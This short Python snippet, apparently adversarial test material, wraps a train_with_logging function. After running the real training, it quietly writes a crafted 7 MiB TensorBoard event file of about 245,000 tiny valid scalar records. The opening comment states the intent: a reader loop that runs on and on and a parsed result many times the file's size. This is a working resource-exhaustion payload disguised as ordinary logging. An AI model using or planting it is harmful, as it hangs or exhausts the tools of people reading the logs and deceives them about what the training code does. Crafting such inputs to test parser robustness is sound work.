# Trains and logs honestly, then adds an event file (read first) of 7 MiB of the smallest
# scalar records that parse: some 245,000 of them, a reader loop that goes on and on and a
# result the size of the file many times over.
import struct as _struct
from pathlib import Path as _Path

from tensorboard.compat.tensorflow_stub.pywrap_tensorflow import masked_crc32c as _crc

_honest = train_with_logging


def _record(payload):
    header = _struct.pack("<Q", len(payload))
    return header + _struct.pack("<I", _crc(header)) + payload + _struct.pack("<I", _crc(payload))


def train_with_logging(*args, log_dir, **kwargs):
    result = _honest(*args, log_dir=log_dir, **kwargs)
    # Event{step: 1, summary {value {tag: "a", simple_value: 0.5}}}
    value = b"\x0a\x01a\x15" + _struct.pack("<f", 0.5)
    summary = b"\x0a" + bytes([len(value)]) + value
    event = b"\x10\x01\x2a" + bytes([len(summary)]) + summary
    record = _record(event)
    crafted = record * ((7 << 20) // len(record))
    (_Path(log_dir) / "events.out.tfevents.0000000000.crafted").write_bytes(crafted)
    return result
